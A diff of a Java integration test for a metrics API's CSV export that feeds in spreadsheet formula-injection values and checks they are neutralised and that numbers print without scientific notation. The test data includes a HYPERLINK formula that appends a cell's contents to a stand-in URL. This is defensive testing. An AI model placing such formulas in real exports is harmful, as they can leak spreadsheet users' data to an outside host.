@@ -50,6 +50,10 @@ class QueryApiIT {
             rows.write(Granularity.ONE_MINUTE, "globex", "latency", Map.of("city", "Oslo"), bucket,
                     new double[] {500}, 1);
         }
+        for (String formula : FORMULAS) {
+            rows.write(Granularity.ONE_MINUTE, "acme", "formulas", Map.of("cell", formula), T0, new double[] {1.5e7, 0.25}, 2);
+        }
+        rows.write(Granularity.ONE_MINUTE, "acme", "formulas", Map.of("cell", "tiny"), T0, new double[] {2.5e-7}, 1);
         for (String metric : List.of("bytes", "errors", "latency")) {
             rows.write(Granularity.ONE_HOUR, "acme", metric, Map.of("city", "Oslo"), Instant.now(), new double[] {1}, 1);
         }
@@ -124,14 +128,30 @@ class QueryApiIT {
                 .isNull();
     }
 
+    private static final List<String> FORMULAS = List.of("=1+2", "@SUM(1+1)", "+1-2", "-2+3",
+            "=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"open\")", "\tx", "\rx");
+
+    /** Issue 10, fault 5: cells a spreadsheet would run as formulas, and numbers it would misread. */
+    @Test
+    void csvNeutralizesFormulasAndWritesPlainNumbers() {
+        String csv = get("/v2/metrics/formulas/series?" + RANGE + "&groupBy=cell&aggregate=sum&format=csv", acme,
+                String.class).body();
+        assertThat(csv).contains(",'=1+2,", ",'@SUM(1+1),", ",'+1-2,", ",'-2+3,", ",'\tx,", ",\"'\rx\",",
+                ",\"'=HYPERLINK(\"\"https://example.invalid/?q=\"\"&A1,\"\"open\"\")\",");
+        assertThat(csv).doesNotContain(",=").doesNotContain(",@").doesNotContain(",+").doesNotContain("E7")
+                .doesNotContain("E-7").contains(",15000000.25\r\n").contains(",tiny,0.00000025\r\n");
+        String counts = get("/v2/metrics/formulas/series?" + RANGE + "&groupBy=cell&format=csv", acme, String.class).body();
+        assertThat(counts).contains(",'=1+2,2\r\n").doesNotContain("2.0");
+    }
+
     @Test
     void csvQuotesCommasQuotesAndNewlines() {
         HttpResponse<String> response = get("/v1/metrics/latency/series?" + RANGE + "&groupBy=city&format=csv", acme,
                 String.class);
         assertThat(response.getContentType()).hasValueSatisfying(t -> assertThat(t.getName()).isEqualTo("text/csv"));
         assertThat(response.body()).startsWith("time,city,count\r\n")
-                .contains("2026-11-25T10:00:00Z,\"Zürich, \"\"HQ\"\"\nfloor 2\",3.0\r\n")
-                .contains("2026-11-25T10:02:00Z,Oslo,1.0\r\n");
+                .contains("2026-11-25T10:00:00Z,\"Zürich, \"\"HQ\"\"\nfloor 2\",3\r\n")
+                .contains("2026-11-25T10:02:00Z,Oslo,1\r\n");
         MutableHttpRequest<?> accept = HttpRequest.GET("/v2/metrics/latency/series?" + RANGE).bearerAuth(acme)
                 .accept("text/csv");
         assertThat(client.toBlocking().retrieve(accept)).startsWith("time,count\r\n");
